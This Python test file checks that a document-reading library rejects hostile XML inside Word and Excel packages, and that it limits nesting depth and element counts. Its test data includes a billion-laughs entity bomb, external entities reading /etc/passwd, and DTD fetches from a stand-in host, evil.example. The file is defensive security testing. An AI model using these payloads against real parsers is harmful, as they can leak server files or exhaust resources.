"""XML that no Word and no Excel wrote: entities, document types, depth, size (SECURITY F4)."""

from __future__ import annotations

import time

import pytest

from chronofile.bring import limits, read_document
from chronofile.bring.markup import tree
from chronofile.errors import CalledWrongly
from tests.bring.files import raw_docx, zipped

NESTED = "".join(f'<!ENTITY a{n} "' + f"&a{n - 1};" * 10 + '">' for n in range(1, 10))
LAUGHS = f'<!DOCTYPE d [<!ENTITY a0 "ha">{NESTED}]><d>&a9;</d>'


@pytest.mark.parametrize(
    "evil",
    [
        LAUGHS,
        '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>',
        '<!DOCTYPE d [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><d/>',
        '<!DOCTYPE d SYSTEM "http://evil.example/x.dtd"><d/>',
        "<!DOCTYPE d><d/>",
    ],
)
def test_a_document_type_is_refused_at_once(evil: str) -> None:
    began = time.monotonic()
    with pytest.raises(CalledWrongly, match="declares a document type"):
        tree(evil.encode(), "a.docx")
    assert time.monotonic() - began < 1


def test_in_every_part_that_is_read() -> None:
    evil = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
    related = ("f", "footnotes", "footnotes.xml")
    for part in ("word/document.xml", "word/footnotes.xml", "_rels/.rels", "word/_rels/document.xml.rels"):
        parts = {"word/footnotes.xml": "<footnotes/>"} | {part: evil}
        with pytest.raises(CalledWrongly, match="declares a document type"):
            read_document(raw_docx("<w:p/>", parts, related), "a.docx")


def test_depth_and_number_of_elements_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(CalledWrongly, match="nested too deep"):
        tree(("<a>" * 100_000).encode(), "a.docx")
    monkeypatch.setattr(limits, "ELEMENTS", 50)
    with pytest.raises(CalledWrongly, match="too large inside"):
        tree(("<a>" + "<b/>" * 60 + "</a>").encode(), "a.docx")


def test_what_is_no_xml_is_damaged() -> None:
    for broken in (b"", b"<a>", b"<a></b>", b"\xff\xfe\x00"):
        with pytest.raises(CalledWrongly, match="damaged inside"):
            tree(broken, "a.docx")


def test_an_undeclared_entity_is_not_looked_for() -> None:
    with pytest.raises(CalledWrongly, match="damaged inside"):
        read_document(raw_docx("<w:tbl><w:tr><w:tc><w:p>&x;</w:p></w:tc></w:tr></w:tbl>"), "a.docx")


def test_names_come_without_their_prefixes() -> None:
    root = tree(b'<x:a xmlns:x="u" x:b="1"><x:c>t</x:c></x:a>', "a")
    assert [node.name for node in root.children] == ["a"]
    assert root.children[0].attrs["b"] == "1"
    assert next(root.all("c")).text == "t"


def test_a_package_of_another_kind_is_named() -> None:
    with pytest.raises(CalledWrongly, match="no Word document and no workbook"):
        read_document(zipped({"a.txt": "x"}), "a.zip")
